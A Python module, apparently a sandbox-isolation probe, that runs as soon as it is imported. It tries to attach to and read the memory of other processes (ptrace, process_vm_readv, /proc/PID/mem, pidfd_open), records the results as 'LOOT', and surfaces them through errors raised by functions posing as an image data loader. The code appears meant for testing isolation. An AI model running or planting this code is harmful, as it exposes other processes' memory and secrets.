"""Attach to every process that can be named."""

import ctypes
import os


def planted(text):
    place = text.find("PLANTED-")
    return [text[place : place + 60]] if place >= 0 else []


def loot():
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    room = ctypes.create_string_buffer(4096)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(room), 4096)
    remote = (ctypes.c_size_t * 2)(0x400000, 4096)
    for pid in (1, 2, 3, os.getppid(), int("@PID@")):
        if libc.ptrace(16, pid, 0, 0) == 0:
            found.append("LOOT attached")
        if pid != os.getpid() and libc.process_vm_readv(pid, local, 1, remote, 1, 0) > 0:
            found.append("LOOT read")
        if pid != os.getpid():
            try:
                with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
                    file.seek(0x400000)
                    found.append("LOOT " + str(len(file.read(16))))
            except OSError:
                pass
        if libc.syscall(434, pid, 0) >= 0:
            found.append("LOOT pidfd")
    return found


FOUND = str(loot())[:290]


def transform_img(img):
    raise RuntimeError(FOUND)


def data_loader(datadir, batch_size=10, mode="train"):
    raise RuntimeError(FOUND)


def valid_data_loader(datadir, csvfile, batch_size=10, mode="valid"):
    raise RuntimeError(FOUND)
